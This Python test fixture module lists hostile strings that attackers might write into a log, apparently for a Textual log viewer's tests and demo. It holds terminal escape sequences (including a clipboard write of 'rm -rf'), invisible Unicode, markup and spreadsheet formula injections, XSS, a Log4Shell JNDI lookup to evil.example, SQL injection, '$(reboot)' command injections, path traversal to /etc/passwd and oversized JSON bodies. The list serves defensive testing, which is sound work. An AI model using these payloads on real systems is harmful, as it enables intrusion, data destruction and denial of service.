"""What attackers write into a log: the one list of it, for the hostile demo and for the tests."""

# ruff: noqa: RUF001 - letters that look like others are among the attacks

from __future__ import annotations

TERMINAL = (
    "\x1b[31m",
    "\x1b]0;title\x07",
    "\x1b]52;c;cm0gLXJm\x07",
    "\x1b]8;;http://evil.example/\x1b\\link\x1b]8;;\x1b\\",
    "\x1bP+q544e\x1b\\",
    "\x9b31m",
    "\x9d0;title\x9c",
    "\x00",
    "\x7f",
    "\x08\x08\x08",
    "\t",
    "\r",
    "\n",
    "\r\n",
)
"""What a terminal obeys."""

UNSEEN = (
    "\u202e",
    "\u2066",
    "\u200b",
    "\u200d",
    "\u2028",
    "\ufeff",
    "\ufe0f",
    "\U000e0001\U000e0041",
    "\ud800",
)
"""What it draws as nothing, or what turns around what stands beside it."""

MARKUP = (
    "[/x]",
    "[",
    "[@click=app.quit]x[/]",
    "[bold red]",
    "[link=http://evil.example]x[/link]",
    "$error",
    "\\",
)
"""What Textual takes for markup."""

WIDE = (
    "e" + "\u0301" * 400,
    "漢字" * 60,
    "👩\u200d👩\u200d👧",
)
"""What it measures wrongly."""

PAYLOADS = (*TERMINAL, *UNSEEN, *MARKUP, *WIDE)
"""One of each kind: few enough for a test of every screen."""

MORE = (
    # Terminals: the screen wiped, reports that are typed back, graphics, a character set of lines, overwriting
    "\x1b[2J\x1b[H", "\x1b[?1049l", "\x1bc", "\x1b[6n", "\x1b[21t", "\x1b[c", "\x05", "\x0e\x1b(0", "\x1b[8m", "\x07",
    "\x1b]9;pay now\x07", "\x1b]777;notify;pay;now\x1b\\", "\x1b]1337;File=inline=1:AAAA\x07", "\x1b]133;A\x07",
    "\x1b_Gf=24,s=1,v=1;AAAA\x1b\\", "\x1bPtmux;\x1b\x1b]52;c;cm0gLXJm\x07\x1b\\", "\x90q~~\x9c",
    "\x9d52;c;cm0gLXJm\x9c",
    "\x1b]52;c;?\x07", "\x1b]10;?\x07", "\x1b[>4;2m", "\x1b[?2026h", "\x1bZ", "\x85", "\x0b\x0c", "\x1a", "\x04",
    "\r200 OK\x1b[K", "DELETE" + "\x08" * 6 + "GET   ", "\x1b[1A\x1b[2K",
    # Letters: turned around, hidden, tags, alike, stacked
    "\u202dabc\u202c", "\u2067\u2069", "\u200e\u200f", "\u061c", "\u00ad", "\u115f\u3164", "\u2060\u2064",
    "\ufff9a\ufffab\ufffb",
    "".join(map(chr, range(0xE0041, 0xE005B))), "\udfff\ud800", "\udc1b", "\u2029", "\u180e", "\ue000",
    "\U0010ffff", "\ufdd0",
    "аdmin", "ａｄｍｉｎ", "ﷺ", "🏳️\u200d🌈", "👩🏽\u200d💻", "Z\u0335\u0310\u0354\u0489a\u0338l\u0337g\u0336o",
    "\u0300" * 40, "ı İ ß ﬁ", "ẛ̣",
    # Spreadsheets and Markdown
    "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3", "\t=1+1", "\r=1+1",
    '=HYPERLINK("http://evil.example")',
    "![x](http://evil.example/x.png)", "[x](javascript:alert(1))", "<img src=http://evil.example onerror=alert(1)>",
    "<script>alert(1)</script>", "</td></table>", "| a | b |\n|---|---|", "```\n# x\n```", "<!--", "]]>", "&lt;&#27;",
    # Whatever else reads logs
    "${jndi:ldap://evil.example/a}", "%s%n%x", "{{7*7}}", "{0.__class__}", "' OR '1'='1'; DROP TABLE records; --",
    "$(reboot)", "`reboot`", "; reboot #", "../../etc/passwd", "file:///etc/passwd", "\\\\evil.example\\x",
    "%00%1b[2J", "%2e%2e",
    # What looks like another type, or like a query
    "NaN", "-Infinity", "1e400", "null", "true", "0x1b", "9" * 400, "", " ", "none", "a OR b", "-is:failed",
    "~x/", "@file", '"', "a\"b'c",
    "]", "[@click=screen.dismiss]x[/]", "[on red blink]x", "[[x]]", "{", "}", "[0;31m",
)  # fmt: skip
"""What else is tried."""

TEXTS = (*PAYLOADS, *MORE)

TIMES = (
    "2026-02-30T25:61:61.000Z", "0000-00-00T00:00:00.000Z", "9999-12-31T23:59:59.999Z", "1e18", "now", "-1",
    "", "\x1b[31m2026",
    "2026-07-24T21:04:11.000Z\n2026-07-24T21:04:12.000Z", "٢٠٢٦-٠٧-٢٤T٢١:٠٤:١١Z", "Z",
)  # fmt: skip
"""What stands where a time should."""

BODIES = (
    '{"name":"first","name":"second","name":"\\u001b[31mthird"}',
    '{"n":NaN,"i":Infinity,"e":1e999,"long":' + "9" * 5_000 + "}",
    "[" * 20_000 + "]" * 20_000,
    '{"a":' * 2_000 + "1" + "}" * 2_000,
    '{"broken": "\x1b]0;title\x07',
    '{"half":"\\ud800","other":"\\udc00x"}',
    '"' + "\\u001b[31m" * 2_000 + '"',
    "a" * 300_000,
    "漢" * 50_000,
    "e" + "\u0301" * 50_000,
    "\n" * 5_000,
    "name=\x1b[2J&password=hush&%00=%1b]0;title%07",
    "",
    "null",
)
"""Bodies that whoever decodes, measures or lays them out may stumble over."""

SECRET_NAMES = (
    "pass\u200bword",
    "PASSWORD\x00",
    "x-api-key\r",
    "Ａｐｉ_Ｋｅｙ",
    "token\x1b[8m",
    "secret\n",
    "[bold]authorization[/]",
)
"""Names as secrets have them, not quite."""
